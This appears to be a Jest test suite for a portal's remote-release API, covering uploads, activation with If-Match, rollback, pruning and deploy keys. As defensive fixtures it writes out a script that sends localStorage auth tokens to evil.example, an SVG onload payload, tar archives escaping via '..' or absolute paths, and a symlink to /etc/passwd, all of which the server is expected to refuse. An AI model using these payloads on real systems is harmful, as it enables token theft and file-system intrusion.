// Releases of the remotes through HTTP (issue 15 items 2, 3): upload through the gate, activation
// under If-Match, rollback, the kept count, deploy keys and their scope, who else may not, the
// files served as immutable; on SQLite and PostgreSQL.
import { createHash, randomBytes } from 'node:crypto';
import { existsSync, mkdirSync, mkdtempSync, readdirSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { PassThrough, Readable } from 'node:stream';
import { gzipSync } from 'node:zlib';
import { sql } from 'kysely';
import { create } from 'tar';
import { call, createTestApp, testDatabases, tokensFor, until, type TestApp } from '../test/test-app';
import { pruneReleases, releasesToPrune } from '../lib/releases/release-store';
import { CHUNK, HOST, tarGz, writePortalDist, writeRemoteBuild, type RemoteBuildOptions } from '../test/remote-builds';

describe.each(testDatabases())('releases on %s', (kind) => {
  let t: TestApp;
  let dist: string;
  let work: string;
  let admin: string;
  let manager: string;
  let dealer: string;

  beforeAll(async () => {
    dist = mkdtempSync(path.join(tmpdir(), 'portal-dist-'));
    work = mkdtempSync(path.join(tmpdir(), 'portal-builds-'));
    writePortalDist(dist, [{ name: 'comms' }, { name: 'orders' }, { name: 'dealers', roles: ['manager', 'admin'] }]);
    t = await createTestApp(kind, { portalDist: dist, releasesKept: 3, releaseUploadLimitMb: 1, releaseLimitMb: 5, releaseFileLimitMb: 2 });
    [admin, manager, dealer] = await Promise.all(['admin@demo.test', 'manager@demo.test', 'dealer@demo.test']
      .map(async (email) => (await tokensFor(t.app, email)).access));
  }, 60_000);
  afterAll(async () => {
    await t?.close();
    rmSync(dist, { recursive: true, force: true });
    rmSync(work, { recursive: true, force: true });
  });

  let builds = 0;
  /** A build of `name` packed as an upload. */
  const archive = async (name: string, options: RemoteBuildOptions = {}) => {
    builds += 1;
    return tarGz(writeRemoteBuild(path.join(work, `build-${builds}`), name, options));
  };
  const upload = (name: string, body: Buffer, token = admin, type = 'application/gzip', language = 'ru') =>
    call(t.app, 'POST', `/api/remotes/${name}/releases/`, { token, body, headers: { 'content-type': type, 'accept-language': language } });
  const liveOf = async (name: string, token = admin) =>
    ((await call(t.app, 'GET', '/api/remotes/', { token })).json as Array<{ name: string; live: { id: string } | null }>).find((r) => r.name === name)!.live?.id ?? null;
  const activate = (name: string, release: string, ifMatch: string | undefined, token = admin) =>
    call(t.app, 'POST', `/api/remotes/${name}/live/`, { token, body: { release }, headers: ifMatch === undefined ? {} : { 'if-match': ifMatch } });
  const releaseFolders = (name: string) => (existsSync(path.join(t.dataDir, 'releases', name)) ? readdirSync(path.join(t.dataDir, 'releases', name)).sort() : []);
  const releaseRows = async (name: string) => (await t.app.db.selectFrom('remote_releases').select('id').where('remote', '=', name).execute()).length;

  test('at start every built remote is registered as its first release, made live by system, its files immutable', async () => {
    const remotes = (await call(t.app, 'GET', '/api/remotes/', { token: admin })).json;
    expect(remotes.map((r: { name: string }) => r.name)).toEqual(['comms', 'dealers', 'orders']);
    for (const remote of remotes) {
      expect(remote.live).toMatchObject({ created_by: 'system', activated_by: 'system', contract_version: HOST.contractVersion, version: '1.0.0', git_sha: 'abcdef1' });
      expect(remote.live.entry).toBe(`/remotes/${remote.name}/${remote.live.id}/mf-manifest.json`);
      expect(remote.releases).toEqual([expect.objectContaining({ id: remote.live.id, live: true, files_kept: true })]);
    }
    const comms = remotes[0];
    for (const file of ['mf-manifest.json', 'remoteEntry.js', CHUNK]) {
      const answer = await call(t.app, 'GET', `/remotes/comms/${comms.live.id}/${file}`, { headers: { 'accept-encoding': 'gzip' } });
      expect([file, answer.status, answer.headers['cache-control']]).toEqual([file, 200, 'public, max-age=31536000, immutable']);
      expect(answer.headers.vary).toMatch(/accept-encoding/i);
    }
    const chunk = await t.app.inject({ method: 'GET', url: `/remotes/comms/${comms.live.id}/${CHUNK}`, headers: { 'accept-encoding': 'gzip' } });
    expect(chunk.headers['content-encoding']).toBe('gzip');
    // Nothing else under /remotes/: not an unpacking upload, not the built seed folder.
    expect((await call(t.app, 'GET', '/remotes/comms/mf-manifest.json')).status).toBe(404);
    expect((await call(t.app, 'GET', '/remotes/comms/.incoming-0123456789abcdef/mf-manifest.json')).status).toBe(404);
  });

  test('a release file opened as a page runs nothing (a sandbox, nosniff); a page kept in a release\'s folder is never served (issue 30 item 2)', async () => {
    const live = await liveOf('comms');
    for (const file of ['mf-manifest.json', 'remoteEntry.js', CHUNK]) {
      const answer = await call(t.app, 'GET', `/remotes/comms/${live}/${file}`);
      expect([file, answer.headers['content-security-policy'], answer.headers['x-content-type-options']]).toEqual([file, "default-src 'none'; sandbox", 'nosniff']);
    }
    // A file on disk that the gate would refuse today (kept from a release of before the list): not served.
    const folder = path.join(t.dataDir, 'releases', 'comms', live!);
    writeFileSync(path.join(folder, 'steal.html'), '<script>fetch("//evil.example/?" + localStorage.authTokens)</script>');
    writeFileSync(path.join(folder, 'steal.svg.html'), '<svg onload="alert(1)"/>');
    for (const file of ['steal.html', 'steal.svg.html']) expect([file, (await call(t.app, 'GET', `/remotes/comms/${live}/${file}`)).status]).toEqual([file, 404]);
    // An upload holding one is refused, saying which file and why.
    const build = path.join(work, 'with-page');
    writeRemoteBuild(build, 'comms', { portal: { version: '2.0.1' } });
    writeFileSync(path.join(build, 'index.html'), '<script>alert(1)</script>');
    const refused = await upload('comms', await tarGz(build));
    expect(refused.status).toBe(422);
    expect(refused.json.reasons).toEqual([{ code: 'file_type', message: expect.stringContaining('«index.html» — не файл, который может быть в релизе') }]);
  });

  test('an upload is a new release, not live; identical uploads make two releases', async () => {
    const body = await archive('comms', { portal: { version: '2.0.0', gitSha: '0123456789abcdef' } });
    const first = await upload('comms', body);
    const second = await upload('comms', body, admin, 'application/octet-stream');
    expect(first.status).toBe(201);
    expect(second.status).toBe(201);
    expect(first.json).toEqual({
      id: expect.any(String), remote: 'comms', contract_version: HOST.contractVersion, version: '2.0.0', git_sha: '0123456789abcdef',
      created_at: expect.any(String), created_by: 'admin@demo.test', activated_at: null, activated_by: null, files_kept: true, live: false,
    });
    expect(second.json.id).not.toBe(first.json.id);
    const releases = (await call(t.app, 'GET', '/api/remotes/comms/releases/', { token: admin })).json;
    expect(releases.slice(0, 2).map((r: { id: string }) => r.id)).toEqual([second.json.id, first.json.id]);
    expect((await call(t.app, 'GET', `/remotes/comms/${first.json.id}/remoteEntry.js`)).status).toBe(200);
    expect((await upload('nowhere', body)).status).toBe(404);
  });

  test.each<[string, RemoteBuildOptions, string]>([
    ['contract_major', { portal: { contractVersion: '3.0.0' } }, `contract 3.0.0 is a different major than the portal's ${HOST.contractVersion}`],
    ['contract_minor', { portal: { contractVersion: `${HOST.contractVersion.split('.')[0]}.99.0` } }, 'is newer than the portal'],
    ['shared_range', { portal: { shared: { react: '^99.0.0' } } }, 'requires react ^99.0.0, but the portal provides'],
    ['shared_range', { portal: { shared: { 'left-pad': '^1.0.0' } } }, 'which the portal does not provide'],
    ['schema', { portal: { menu: [{ key: 'x', label: { ru: 'x', en: 'x' }, path: '' }] } }, 'metaData.portal.menu[0] needs the field "roles"'],
    ['schema', { portal: { shared: undefined } }, 'metaData.portal needs the field "shared"'],
    ['missing_file', { omit: [CHUNK] }, `names "${CHUNK}", which is not in the archive`],
    ['missing_file', { omit: ['remoteEntry.js'] }, 'names "remoteEntry.js", which is not in the archive'],
    ['name', { portal: { name: 'orders' } }, 'metaData.portal.name is "orders", but this is the release of "comms"'],
    ['name', { manifest: { id: 'orders' } }, 'the manifest\'s id is "orders"'],
  ])('the gate refuses %s (%#) with 422, changing nothing', async (code, options, words) => {
    const rows = await releaseRows('comms');
    const folders = releaseFolders('comms');
    const answer = await upload('comms', await archive('comms', options), admin, 'application/gzip', 'en');
    expect(answer.status).toBe(422);
    expect(answer.json).toMatchObject({ code: 'incompatible', message: expect.any(String) });
    expect(answer.json.reasons).toContainEqual({ code, message: expect.stringContaining(words) });
    // One language per answer: asked in Russian, the reasons are Russian too.
    const russian = await upload('comms', await archive('comms', options));
    expect(russian.json.reasons.filter((r: { code: string }) => r.code === code).every((r: { message: string }) => /[а-яё]/i.test(r.message))).toBe(true);
    expect(await releaseRows('comms')).toBe(rows);
    expect(releaseFolders('comms')).toEqual(folders);
  });

  test('a build holding its own copy of a library the page shares is refused, unshared_library, naming the library and the file', async () => {
    const rows = await releaseRows('comms');
    const build = path.join(work, 'with-antd-core');
    writeRemoteBuild(build, 'comms');
    // What antd/es/rate brings along (its style core), and React DOM, in chunks of the build's own.
    writeFileSync(path.join(build, '77.4f3a2b1c.js'), 'var t={attr:"data-token-hash"};');
    writeFileSync(path.join(build, '78.5e6f7a8b.js'), 'e.__reactContainer$=1;');
    const answer = await upload('comms', await tarGz(build), admin, 'application/gzip', 'en');
    expect(answer.status).toBe(422);
    expect(answer.json.reasons).toEqual([
      { code: 'unshared_library', message: expect.stringContaining('"77.4f3a2b1c.js" holds its own copy of antd\'s core (@ant-design/cssinjs), which the portal\'s page shares') },
      { code: 'unshared_library', message: expect.stringContaining('"78.5e6f7a8b.js" holds its own copy of react-dom') },
    ]);
    expect(await releaseRows('comms')).toBe(rows);
    // A real build holds none: comms as built on contract 2.2.0 (e2e/old-contract/) passes.
    const real = await upload('comms', await tarGz(path.join(__dirname, '../../../e2e/old-contract/comms-2.2.0')));
    expect([real.status, real.json.reasons]).toEqual([201, undefined]);
  });

  test('the gate answers every reason at once', async () => {
    const answer = await upload('comms', await archive('comms', {
      portal: { name: 'orders', contractVersion: '3.0.0', shared: { react: '^99.0.0' }, menu: 'none' }, omit: [CHUNK],
    }));
    expect(answer.status).toBe(422);
    expect(answer.json.reasons.map((r: { code: string }) => r.code).sort()).toEqual(['contract_major', 'missing_file', 'name', 'schema', 'shared_range']);
  });

  /** A gzip tar of raw entries, as a hostile client could write it. */
  const rawTar = async (build: (dir: string) => string[], options: { preservePaths?: boolean } = {}) => {
    const dir = mkdtempSync(path.join(work, 'raw-'));
    const entries = build(dir);
    const chunks: Buffer[] = [];
    for await (const chunk of create({ gzip: true, cwd: dir, preservePaths: options.preservePaths }, entries)) chunks.push(chunk as Buffer);
    return Buffer.concat(chunks);
  };

  test('hostile or broken archives are refused with 400 and leave nothing behind', async () => {
    const rows = await releaseRows('comms');
    const folders = releaseFolders('comms');
    const escaping = await rawTar((dir) => {
      mkdirSync(path.join(dir, 'inner'));
      writeRemoteBuild(path.join(dir, 'inner'), 'comms');
      writeFileSync(path.join(dir, 'evil.js'), 'x');
      return ['inner/../evil.js'];
    });
    const absolute = await rawTar((dir) => {
      writeFileSync(path.join(dir, 'evil.js'), 'x');
      return [path.join(dir, 'evil.js')];
    }, { preservePaths: true });
    const linked = await rawTar((dir) => {
      writeRemoteBuild(dir, 'comms');
      symlinkSync('/etc/passwd', path.join(dir, 'passwd'));
      return readdirSync(dir);
    });
    const good = await archive('comms');
    const cases: Array<[string, Buffer, string]> = [
      ['..', escaping, 'выходит из папки («..»)'],
      ['absolute', absolute, 'абсолютный путь'],
      ['symlink', linked, 'SymbolicLink: принимаются только файлы и папки'],
      ['not gzip', Buffer.from('just text, not an archive'), 'Архив не принят: загрузка — не файл gzip: отправьте собранную папку как .tar.gz.'],
      ['truncated', good.subarray(0, Math.floor(good.length / 2)), 'архив не читается'],
      ['gzip of no tar', gzipSync(Buffer.from('plain words '.repeat(100))), ''],
    ];
    for (const [what, body, words] of cases) {
      const answer = await upload('comms', body);
      expect([what, answer.status, answer.json.code]).toEqual([what, 400, 'bad_archive']);
      expect(answer.json.message).toContain(words);
      // One language per answer: no English reason inside the Russian message.
      expect(answer.json.message).not.toMatch(/\b(the|is|not|cannot)\b/);
    }
    // The same refusal for a caller who asks for English is English through and through.
    const english = await call(t.app, 'POST', '/api/remotes/comms/releases/', { token: admin, body: Buffer.from('just text'), headers: { 'content-type': 'application/gzip', 'accept-language': 'en' } });
    expect(english.json.message).toBe('The archive cannot be used: the upload is not a gzip file: send the built folder as a .tar.gz.');
    expect(await releaseRows('comms')).toBe(rows);
    expect(releaseFolders('comms')).toEqual(folders);
  });

  test('an archive that expands too far, or an upload over the limit, is 413', async () => {
    const rows = await releaseRows('comms');
    const folders = releaseFolders('comms');
    // RELEASE_FILE_LIMIT_MB (2 here): one file over it, even a file a release may hold.
    const bigFile = await rawTar((dir) => {
      writeRemoteBuild(dir, 'comms');
      writeFileSync(path.join(dir, 'chunk-big.js'), Buffer.alloc(3 * 1024 * 1024));
      return readdirSync(dir);
    });
    expect(bigFile.length).toBeLessThan(1024 * 1024);
    const file = await upload('comms', bigFile);
    expect([file.status, file.json.code]).toEqual([413, 'archive_too_large']);
    expect(file.json.message).toBe('Архив слишком велик: «chunk-big.js» занимает 3 MB распакованным, а файлу можно не больше 2 MB.');
    // RELEASE_LIMIT_MB (5 here): files each within the limit, together over it.
    const bigRelease = await rawTar((dir) => {
      writeRemoteBuild(dir, 'comms');
      for (let i = 0; i < 4; i += 1) writeFileSync(path.join(dir, `chunk-${i}.js`), Buffer.alloc(1.5 * 1024 * 1024));
      return readdirSync(dir);
    });
    const release = await upload('comms', bigRelease);
    expect([release.status, release.json.code]).toEqual([413, 'archive_too_large']);
    expect(release.json.message).toBe('Архив слишком велик: архив распаковывается больше чем в 5 MB.');
    // RELEASE_UPLOAD_LIMIT_MB (1 here): the upload itself, whether or not it says its length.
    const big = await upload('comms', Buffer.concat([Buffer.from([0x1f, 0x8b]), Buffer.alloc(1024 * 1024 + 10)]));
    expect([big.status, big.json.code]).toEqual([413, 'archive_too_large']);
    // Sent as a stream, without a length: bytes that do not compress, 1.2 MB of gzip.
    const noise = await rawTar((dir) => {
      writeRemoteBuild(dir, 'comms');
      writeFileSync(path.join(dir, 'chunk-noise.js'), randomBytes(1.2 * 1024 * 1024));
      return readdirSync(dir);
    });
    expect(noise.length).toBeGreaterThan(1024 * 1024);
    const unsaid = await t.app.inject({
      method: 'POST', url: '/api/remotes/comms/releases/', headers: { authorization: `Bearer ${admin}`, 'content-type': 'application/gzip' },
      payload: Readable.from((function* () { for (let at = 0; at < noise.length; at += 64 * 1024) yield noise.subarray(at, at + 64 * 1024); })()),
    });
    expect([unsaid.statusCode, unsaid.json().code]).toEqual([413, 'archive_too_large']);
    // A release within every limit still goes in; nothing of the refused ones stays.
    expect((await upload('comms', await rawTar((dir) => {
      writeRemoteBuild(dir, 'comms');
      writeFileSync(path.join(dir, 'chunk-fits.js'), Buffer.alloc(2 * 1024 * 1024));
      return readdirSync(dir);
    }))).status).toBe(201);
    expect(await releaseRows('comms')).toBe(rows + 1);
    expect(releaseFolders('comms').filter((f) => !folders.includes(f))).toHaveLength(1);
  });

  test('one upload of a remote at a time: a second one while the first streams in is 409, another remote\'s goes on (issue 30 item 3)', async () => {
    const body = await archive('comms', { text: 'slow' });
    const incoming = () => releaseFolders('comms').filter((name) => name.startsWith('.incoming-'));
    const slow = new PassThrough();
    const first = t.app.inject({
      method: 'POST', url: '/api/remotes/comms/releases/', headers: { authorization: `Bearer ${admin}`, 'content-type': 'application/gzip' }, payload: slow,
    });
    slow.write(body.subarray(0, 10));
    await until(() => incoming().length > 0);
    const second = await upload('comms', body);
    expect([second.status, second.json.code]).toEqual([409, 'upload_in_progress']);
    expect(second.json.message).toBe('Релиз этого раздела уже загружается: дождитесь конца той загрузки и повторите.');
    expect((await upload('orders', await archive('orders', { text: 'meanwhile' }))).status).toBe(201);
    slow.end(body.subarray(10));
    expect((await first).statusCode).toBe(201);
    expect(incoming()).toEqual([]);
    // The first one over, the next goes in.
    expect((await upload('comms', body)).status).toBe(201);
  });

  test('activation: the right If-Match moves the pointer (200), a stale one is 412, none is 428', async () => {
    const live = (await liveOf('orders'))!;
    const release = (await upload('orders', await archive('orders', { text: 'second' }))).json.id as string;
    expect((await activate('orders', release, undefined)).status).toBe(428);
    expect((await activate('orders', release, '"someone-else"')).status).toBe(412);
    expect((await activate('orders', release, '*')).status).toBe(412);
    expect((await activate('orders', 'no-such-release', live)).status).toBe(404);
    const moved = await activate('orders', release, `W/"${live}"`);
    expect(moved.status).toBe(200);
    expect(moved.json).toMatchObject({ name: 'orders', base_path: '/orders', live: { id: release, entry: `/remotes/orders/${release}/mf-manifest.json`, activated_by: 'admin@demo.test' } });
    expect(moved.json.releases.find((r: { id: string }) => r.id === release).live).toBe(true);
    expect((await activate('orders', live, live)).status).toBe(412);
  });

  test('two activations racing with the same If-Match: exactly one 200 and one 412', async () => {
    const live = (await liveOf('orders'))!;
    const [a, b] = [(await upload('orders', await archive('orders', { text: 'a' }))).json.id, (await upload('orders', await archive('orders', { text: 'b' }))).json.id];
    const answers = await Promise.all([activate('orders', a, live), activate('orders', b, live)]);
    expect(answers.map((r) => r.status).sort()).toEqual([200, 412]);
    expect(await liveOf('orders')).toBe(answers[0].status === 200 ? a : b);
  });

  test('rollback returns to the release live before, which the state names; none before is 409', async () => {
    const stateOf = async () => (await call(t.app, 'GET', '/api/remotes/', { token: admin })).json.find((r: { name: string }) => r.name === 'dealers');
    expect((await stateOf()).rollback_to).toBeNull();
    expect((await call(t.app, 'POST', '/api/remotes/dealers/rollback/', { token: admin })).status).toBe(409);
    const seeded = (await liveOf('dealers'))!;
    const next = (await upload('dealers', await archive('dealers', { roles: ['manager', 'admin'], text: 'next' }))).json.id;
    expect((await activate('dealers', next, seeded)).status).toBe(200);
    expect((await stateOf()).rollback_to).toBe(seeded);
    expect((await call(t.app, 'POST', '/api/remotes/dealers/rollback/', { token: admin, headers: { 'if-match': 'stale' } })).status).toBe(412);
    const back = await call(t.app, 'POST', '/api/remotes/dealers/rollback/', { token: admin, headers: { 'if-match': next } });
    expect(back.status).toBe(200);
    expect(back.json.live.id).toBe(seeded);
  });

  test('making an older release live again keeps every activation: who made which release live, when, in place of which', async () => {
    const first = (await liveOf('orders'))!;
    const next = (await upload('orders', await archive('orders', { text: 'again' }))).json.id as string;
    expect((await activate('orders', next, first)).status).toBe(200);
    expect((await activate('orders', first, next)).status).toBe(200);
    const orders = ((await call(t.app, 'GET', '/api/remotes/', { token: admin })).json as Array<{ name: string; activations: Array<Record<string, unknown>> }>).find((r) => r.name === 'orders')!;
    expect(orders.activations.slice(0, 2)).toEqual([
      { release: first, previous_release: next, activated_at: expect.any(String), activated_by: 'admin@demo.test' },
      { release: next, previous_release: first, activated_at: expect.any(String), activated_by: 'admin@demo.test' },
    ]);
    // The first making live of all, the seed's, is still there at the end.
    expect(orders.activations.at(-1)).toMatchObject({ previous_release: null, activated_by: 'system' });
  });

  test('uploads never made live (deploys that lost a race) count for nothing: the release live before keeps its files and rollback works', async () => {
    const before = (await liveOf('comms'))!;
    const next = (await upload('comms', await archive('comms', { text: 'live next' }))).json.id as string;
    expect((await activate('comms', next, before)).status).toBe(200);
    for (let i = 0; i < 5; i += 1) expect((await upload('comms', await archive('comms', { text: `never live ${i}` }))).status).toBe(201);
    const releases = (await call(t.app, 'GET', '/api/remotes/comms/releases/', { token: admin })).json as Array<{ id: string; files_kept: boolean }>;
    expect(releases.filter((r) => r.files_kept).map((r) => r.id)).toEqual(expect.arrayContaining([next, before]));
    expect((await call(t.app, 'GET', `/remotes/comms/${before}/remoteEntry.js`)).status).toBe(200);
    const back = await call(t.app, 'POST', '/api/remotes/comms/rollback/', { token: admin, headers: { 'if-match': next } });
    expect([back.status, back.json.live?.id]).toEqual([200, before]);
  });

  test('what a prune keeps (issue 32 item 3): the live release, the rollback target, what was live within RELEASES_GRACE_HOURS, the newest RELEASES_KEPT that were live, uploads under a day', async () => {
    const folder = mkdtempSync(path.join(tmpdir(), 'prune-'));
    const files = { releasesDir: folder, releasesKept: 2, releasesGraceHours: 24 };
    const HOUR = 3600_000;
    const now = Date.parse('2026-06-10T12:00:00Z');
    const at = (hoursAgo: number) => new Date(now - hoursAgo * HOUR).toISOString();
    const remote = `prune-${kind}`;
    await t.app.db.insertInto('remotes').values({ name: remote, base_path: `/${remote}`, live_release: null, updated_at: at(0) }).execute();
    // r1…r5 made live in turn (r5 live now, r4 before it, r3 replaced 30 hours ago); u1 uploaded 2 days ago
    // and u2 3 hours ago, neither ever live.
    const releases: Array<[string, number]> = [['r1', 100], ['r2', 90], ['r3', 80], ['u1', 48], ['r4', 40], ['u2', 3], ['r5', 2]];
    for (const [id, hoursAgo] of releases) {
      await t.app.db.insertInto('remote_releases').values({
        id: `${remote}-${id}`, remote, contract_version: HOST.contractVersion, version: null, git_sha: null, remote_entry: 'remoteEntry.js',
        meta: '{}', content_hash: id, files_kept: true, created_at: at(hoursAgo), created_by: 'test', activated_at: null, activated_by: null,
      }).execute();
      mkdirSync(path.join(folder, remote, `${remote}-${id}`), { recursive: true });
    }
    const activations: Array<[string, string | null, number]> = [['r1', null, 99], ['r2', 'r1', 89], ['r3', 'r2', 79], ['r4', 'r3', 30], ['r5', 'r4', 1]];
    for (const [release, previous, hoursAgo] of activations) {
      await t.app.db.insertInto('release_activations').values({
        remote, release: `${remote}-${release}`, previous_release: previous && `${remote}-${previous}`, activated_at: at(hoursAgo), activated_by: 'test',
      }).execute();
    }
    await t.app.db.updateTable('remotes').set({ live_release: `${remote}-r5` }).where('name', '=', remote).execute();
    try {
      // Kept: r5 (live), r4 (the rollback target, live until an hour ago; with r5 the newest two that
      // were live) and u2 (never live, under a day old). Gone: r3 (live until 30 hours ago, beyond the
      // 24 of grace), r2, r1, and u1 (never live, two days old).
      const pruned = await pruneReleases(t.app.db, files, remote, now);
      expect(pruned.sort()).toEqual(['r1', 'r2', 'r3', 'u1'].map((id) => `${remote}-${id}`));
      expect(readdirSync(path.join(folder, remote)).sort()).toEqual(['r4', 'r5', 'u2'].map((id) => `${remote}-${id}`));
      // The live release and the rollback target stay whatever RELEASES_KEPT and the grace say; with
      // its files back, r3 stays under a grace of 31 hours and goes under one of 29.
      expect(await releasesToPrune(t.app.db, { ...files, releasesKept: 1, releasesGraceHours: 0 }, remote, now)).toEqual([]);
      await t.app.db.updateTable('remote_releases').set({ files_kept: true }).where('id', '=', `${remote}-r3`).execute();
      expect(await releasesToPrune(t.app.db, { ...files, releasesGraceHours: 31 }, remote, now)).toEqual([]);
      expect(await releasesToPrune(t.app.db, { ...files, releasesGraceHours: 29 }, remote, now)).toEqual([`${remote}-r3`]);
    } finally {
      await t.app.db.deleteFrom('release_activations').where('remote', '=', remote).execute();
      await t.app.db.deleteFrom('remote_releases').where('remote', '=', remote).execute();
      await t.app.db.deleteFrom('remotes').where('name', '=', remote).execute();
      rmSync(folder, { recursive: true, force: true });
    }
  });

  // Only PostgreSQL lets two processes write at once (SQLite takes one writer at a time).
  if (kind === 'postgres') {
    test('a prune and an activation of the same release at once: the activation waits, finds the files gone and changes nothing', async () => {
      const live = await liveOf('orders');
      const candidate = (await upload('orders', await archive('orders', { text: 'raced' }))).json.id as string;
      // Another process prunes it: the remote's row taken, its files marked gone, not committed yet.
      let commit!: () => void;
      const held = new Promise<void>((resolve) => { commit = resolve; });
      let marked!: () => void;
      const markedGone = new Promise<void>((resolve) => { marked = resolve; });
      const pruning = t.app.db.transaction().execute(async (trx) => {
        await trx.updateTable('remotes').set((eb) => ({ revision: eb.ref('revision') })).where('name', '=', 'orders').execute();
        await trx.updateTable('remote_releases').set({ files_kept: false }).where('id', '=', candidate).execute();
        marked();
        await held;
      });
      await markedGone;
      const activation = activate('orders', candidate, live!);
      // The activation waits for the remote's row (a lock wait the database reports), then the prune commits.
      const waiting = async () => Number((await sql<{ n: string }>`select count(*) as n from pg_stat_activity where wait_event_type = 'Lock' and datname = current_database()`.execute(t.app.db)).rows[0].n);
      for (let tries = 0; (await waiting()) === 0; tries += 1) {
        if (tries > 200) throw new Error('the activation never waited for the prune');
        await new Promise((resolve) => setImmediate(resolve));
      }
      commit();
      await pruning;
      const answer = await activation;
      expect([answer.status, answer.json.code]).toEqual([409, 'release_files_gone']);
      expect(await liveOf('orders')).toBe(live);
    });
  }

  test('deploy keys: shown once, kept hashed; a comms key deploys comms and nothing else', async () => {
    const made = await call(t.app, 'POST', '/api/remotes/comms/keys/', { token: admin, body: { name: 'comms CI' } });
    expect(made.status).toBe(201);
    const key = made.json.key as string;
    expect(key).toMatch(/^pdk_[A-Za-z0-9_-]{43}$/);
    const row = await t.app.db.selectFrom('deploy_keys').selectAll().where('id', '=', made.json.id).executeTakeFirstOrThrow();
    expect(row.key_hash).toBe(createHash('sha256').update(key).digest('hex'));
    const listed = (await call(t.app, 'GET', '/api/remotes/comms/keys/', { token: admin })).json;
    expect(JSON.stringify(listed)).not.toContain(key);
    expect(listed).toContainEqual(expect.objectContaining({ id: made.json.id, name: 'comms CI', revoked_at: null }));

    const live = (await liveOf('comms', key))!;
    const mine = await call(t.app, 'GET', '/api/remotes/', { token: key });
    expect(mine.status).toBe(200);
    expect(mine.json.map((r: { name: string }) => r.name)).toEqual(['comms']);
    const uploaded = await upload('comms', await archive('comms', { text: 'by key' }), key);
    expect([uploaded.status, uploaded.json.created_by]).toEqual([201, 'key:comms CI']);
    expect((await activate('comms', uploaded.json.id, live, key)).status).toBe(200);
    expect((await call(t.app, 'POST', '/api/remotes/comms/rollback/', { token: key })).json.live.id).toBe(live);
    expect((await call(t.app, 'GET', '/api/remotes/comms/releases/', { token: key })).status).toBe(200);

    const elsewhere = await upload('orders', await archive('orders'), key);
    expect([elsewhere.status, elsewhere.json.code, elsewhere.json.message]).toEqual([404, 'deploy_key_refused', 'Ключ развёртывания не подходит для раздела orders.']);
    expect((await activate('orders', live, live, key)).status).toBe(404);
    expect((await call(t.app, 'GET', '/api/remotes/orders/releases/', { token: key })).status).toBe(404);
    for (const [method, url] of [['GET', '/api/orders/'], ['GET', '/api/users/me/'], ['GET', '/api/remotes/registry/'], ['GET', '/api/remotes/comms/keys/'],
      ['POST', '/api/remotes/comms/keys/'], ['DELETE', `/api/remotes/comms/keys/${made.json.id}/`]] as const) {
      const answer = await call(t.app, method, url, { token: key, body: method === 'POST' ? { name: 'more' } : undefined });
      expect([method, url, answer.status]).toEqual([method, url, 401]);
    }

    expect((await call(t.app, 'DELETE', `/api/remotes/comms/keys/${made.json.id}/`, { token: admin })).status).toBe(204);
    expect((await call(t.app, 'GET', '/api/remotes/', { token: key })).status).toBe(401);
    const revoked = await call(t.app, 'POST', '/api/remotes/comms/releases/', { token: key, body: await archive('comms'), headers: { 'content-type': 'application/gzip', 'accept-language': 'en' } });
    expect([revoked.status, revoked.json.code, revoked.json.message]).toEqual([401, 'deploy_key_refused', 'This deploy key does not belong to comms.']);
    const unknown = await call(t.app, 'GET', '/api/remotes/', { token: 'pdk_unknown' });
    expect([unknown.status, unknown.json.code]).toEqual([401, 'deploy_key_unknown']);
    expect((await call(t.app, 'DELETE', `/api/remotes/orders/keys/${made.json.id}/`, { token: admin })).status).toBe(404);
  });

  test('a dealer and a manager get 404 on every releases route', async () => {
    const live = (await liveOf('comms'))!;
    const body = await archive('comms');
    for (const token of [dealer, manager]) {
      const answers = await Promise.all([
        call(t.app, 'GET', '/api/remotes/', { token }),
        call(t.app, 'GET', '/api/remotes/comms/releases/', { token }),
        upload('comms', body, token),
        activate('comms', live, live, token),
        call(t.app, 'POST', '/api/remotes/comms/rollback/', { token }),
        call(t.app, 'GET', '/api/remotes/comms/keys/', { token }),
        call(t.app, 'POST', '/api/remotes/comms/keys/', { token, body: { name: 'x' } }),
        call(t.app, 'DELETE', '/api/remotes/comms/keys/1/', { token }),
      ]);
      expect(answers.map((a) => a.status)).toEqual(Array(8).fill(404));
    }
    expect((await call(t.app, 'GET', '/api/remotes/')).status).toBe(401);
  });

  test('a poller reading the live entry during 20 activations sees only 200s', async () => {
    const ids: string[] = [];
    for (let i = 0; i < 2; i += 1) ids.push((await upload('orders', await archive('orders', { text: `poll ${i}` }))).json.id);
    let done = false;
    const statuses: number[] = [];
    const poller = (async () => {
      while (!done) {
        const registry = await call(t.app, 'GET', '/api/remotes/registry/', { token: dealer });
        statuses.push(registry.status);
        const orders = registry.json.remotes.find((r: { name: string }) => r.name === 'orders');
        for (const url of [orders.entry, orders.remoteEntry]) statuses.push((await call(t.app, 'GET', url)).status);
      }
    })();
    let live = (await liveOf('orders'))!;
    for (let i = 0; i < 20; i += 1) {
      const next = ids[i % 2] === live ? ids[(i + 1) % 2] : ids[i % 2];
      expect((await activate('orders', next, live)).status).toBe(200);
      live = next;
    }
    done = true;
    await poller;
    expect(statuses.length).toBeGreaterThan(3);
    expect(new Set(statuses)).toEqual(new Set([200]));
  }, 30_000);
});
